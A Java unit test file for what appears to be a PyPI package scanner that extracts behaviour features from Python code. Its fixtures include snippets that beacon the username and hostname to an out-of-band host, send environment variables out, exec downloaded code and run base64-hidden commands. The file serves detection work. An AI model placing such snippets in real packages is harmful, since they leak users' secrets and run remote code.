package io.pypiguard.behavior;

import static org.assertj.core.api.Assertions.assertThat;

import io.pypiguard.testkit.PackageBuilder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import org.junit.jupiter.api.Test;

class CodeFeatureExtractorTest {

  private static final String[] BEACON = {
    "import getpass, platform, requests",
    "requests.post('https://x1.oast.fun/in', json={'u': getpass.getuser(), 'h': platform.node()})"
  };

  @Test
  void withoutPythonNothingIsMeasured() {
    CodeFeatures features =
        CodeFeatures.of(PackageBuilder.wheel("demo", "1.0").file("demo/data.txt", "exec(x)\n"));
    assertThat(features.vector().toArray()).containsOnly(Double.NaN);
  }

  @Test
  void anEmptyModuleHasCountsButNoShares() {
    CodeFeatures features =
        CodeFeatures.of(PackageBuilder.wheel("demo", "1.0").file("demo/__init__.py", ""));
    assertThat(features.value("calls-network-unasked")).isZero();
    assertThat(features.find("reach-unasked-share")).isEmpty();
    assertThat(features.find("strings-entropy")).isEmpty();
  }

  @Test
  void theSamePackageGivesTheSameNumbers() {
    assertThat(CodeFeatures.ofModule(BEACON).vector())
        .isEqualTo(CodeFeatures.ofModule(BEACON).vector());
  }

  @Test
  void aBehaviorCountsWhereItTakesEffect() {
    CodeFeatures atImport = CodeFeatures.ofModule(BEACON);
    CodeFeatures asked = CodeFeatures.ofModule(BEACON[0], "def report():", "    " + BEACON[1]);
    assertThat(atImport.value("host-fingerprint-beacon-unasked")).isGreaterThanOrEqualTo(4);
    assertThat(atImport.value("worst-unasked")).isGreaterThanOrEqualTo(4);
    assertThat(asked.value("host-fingerprint-beacon-unasked")).isZero();
    assertThat(asked.value("host-fingerprint-beacon-asked")).isPositive();
    assertThat(asked.value("worst-unasked")).isLessThan(atImport.value("worst-unasked"));
  }

  @Test
  void callsCountOncePerPlaceAndByMoment() {
    CodeFeatures features =
        CodeFeatures.ofModule(
            "import os, requests",
            "for host in ['a', 'b', 'c']:",
            "    requests.get('https://' + host + '.example.org')",
            "def later():",
            "    os.system('true')");
    assertThat(features.value("calls-network-unasked")).isEqualTo(Math.log10(2));
    assertThat(features.value("calls-process-unasked")).isZero();
    assertThat(features.value("calls-process-asked")).isEqualTo(Math.log10(2));
    assertThat(features.value("reach-unasked-share")).isEqualTo(0.5);
    assertThat(features.value("reach-install-share")).isZero();
  }

  @Test
  void whatStandsInTestsIsAside() {
    String call = "import os\ndef run():\n    os.system('true')\n";
    PackageBuilder builder =
        PackageBuilder.wheel("demo", "1.0")
            .file("demo/__init__.py", call)
            .file("demo/tests/test_demo.py", call);
    assertThat(CodeFeatures.of(builder).value("reach-aside-share")).isEqualTo(0.5);
  }

  @Test
  void flowsAreToldByTheirSourceAndSink() {
    CodeFeatures secrets =
        CodeFeatures.ofModule(
            "import os, requests", "requests.post('https://example.org', data=dict(os.environ))");
    CodeFeatures constant =
        CodeFeatures.ofModule(
            "import os, requests", "requests.post('https://example.org', data={'a': 1})");
    assertThat(secrets.value("flow-environment-send")).isPositive();
    assertThat(constant.value("flow-environment-send")).isZero();
  }

  @Test
  void downloadsThatAreRunAreToldFromThoseThatAreKept() {
    CodeFeatures run =
        CodeFeatures.ofModule("import requests", "exec(requests.get('https://example.org').text)");
    CodeFeatures kept =
        CodeFeatures.ofModule(
            "import requests",
            "open('data.json', 'w').write(requests.get('https://example.org').text)");
    assertThat(run.value("flow-download-run")).isPositive();
    assertThat(run.value("flow-download-write")).isZero();
    assertThat(kept.value("flow-download-run")).isZero();
    assertThat(kept.value("flow-download-write")).isPositive();
  }

  @Test
  void theOrderWithinAFunctionMatters() {
    String download = "    body = requests.get('https://example.org/x').content";
    String write = "    open('x', 'wb').write(body)";
    String run = "    subprocess.run(['x'])";
    String head = "import requests, subprocess";
    CodeFeatures inOrder = CodeFeatures.ofModule(head, "def f():", download, write, run);
    CodeFeatures runFirst = CodeFeatures.ofModule(head, "def f():", run, download, write);
    CodeFeatures apart = CodeFeatures.ofModule(head, "def f():", download, write, "def g():", run);
    CodeFeatures byHelpers =
        CodeFeatures.ofModule(
            head,
            "def f():",
            download,
            write,
            "def g():",
            run,
            "def h():",
            "    f()",
            "    g()",
            "h()");
    assertThat(inOrder.value("order-download-write-run")).isEqualTo(1);
    assertThat(runFirst.value("order-download-write-run")).isZero();
    assertThat(apart.value("order-download-write-run")).isZero();
    assertThat(byHelpers.value("order-download-write-run")).isEqualTo(2);
  }

  @Test
  void collectedDataThatIsEncodedAndSentIsAChain() {
    CodeFeatures chain =
        CodeFeatures.ofModule(
            "import base64, platform, requests",
            "facts = base64.b64encode(platform.node().encode())",
            "requests.post('https://example.org', data=facts)");
    CodeFeatures plain =
        CodeFeatures.ofModule(
            "import platform, requests",
            "requests.post('https://example.org', data=platform.node())");
    assertThat(chain.value("order-collect-encode-send")).isEqualTo(2);
    assertThat(plain.value("order-collect-encode-send")).isZero();
  }

  @Test
  void layersAreCountedWithTheirDepth() {
    CodeFeatures plain = CodeFeatures.ofModule("import os", "os.system('true')");
    CodeFeatures decoded =
        CodeFeatures.ofModule(
            "import base64",
            "exec(base64.b64decode('" + base64("import os\nos.system('id')") + "'))");
    assertThat(plain.value("layers-deepest")).isZero();
    assertThat(plain.value("layers-calls-share")).isZero();
    assertThat(plain.value("flow-constant-run")).isZero();
    assertThat(decoded.value("layers-deepest")).isEqualTo(1);
    assertThat(decoded.value("layers-texts")).isEqualTo(Math.log10(2));
    assertThat(decoded.value("layers-source-share")).isBetween(0.1, 0.5);
    assertThat(decoded.value("layers-calls-share")).isPositive();
    assertThat(decoded.value("flow-constant-run")).isPositive();
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void hostsInLiteralsAreSortedByKind() {
    CodeFeatures features =
        CodeFeatures.ofModule(
            "HOOK = 'https://discord.com/api/webhooks/1/a'",
            "ALSO = 'https://discord.com/api/webhooks/1/b'",
            "HOME = 'https://some-project.example.net/'");
    CodeFeatures documented =
        CodeFeatures.ofModule("'''See https://discord.com/api/webhooks/1/a'''");
    assertThat(features.value("hosts-webhook")).isEqualTo(Math.log10(2));
    assertThat(features.value("suspicious-url-literals")).isEqualTo(Math.log10(2));
    assertThat(features.value("suspicious-url-calls-unasked")).isZero();
    assertThat(documented.value("hosts-webhook")).isZero();
  }

  @Test
  void callsToSuspiciousHostsCountByMoment() {
    CodeFeatures features =
        CodeFeatures.ofModule("import requests", "requests.get('https://pastebin.com/raw/abc')");
    assertThat(features.value("suspicious-url-calls-unasked")).isEqualTo(Math.log10(2));
    assertThat(features.value("suspicious-url-calls-asked")).isZero();
    assertThat(features.value("hosts-drop")).isPositive();
  }

  @Test
  void aHostilePackageIsMeasuredWithinItsRanges() {
    String[] lines = new String[40_000];
    Arrays.setAll(lines, i -> "x" + i + " = [" + "lambda: 'http://a" + i + ".example.org', 1]");
    lines[0] = "y = '" + "QUJD1".repeat(400_000) + "'";
    lines[1] = "z = [" + "1, ".repeat(300_000) + "]";
    CodeFeatures features = CodeFeatures.ofModule(lines);
    assertThat(features.value("long-string")).isBetween(6.0, 7.0);
    assertThat(features.value("hosts-unknown-share")).isBetween(0.0, 1.0);
    assertThat(features.value("numbers-listed-share")).isGreaterThan(0.4);
  }
}
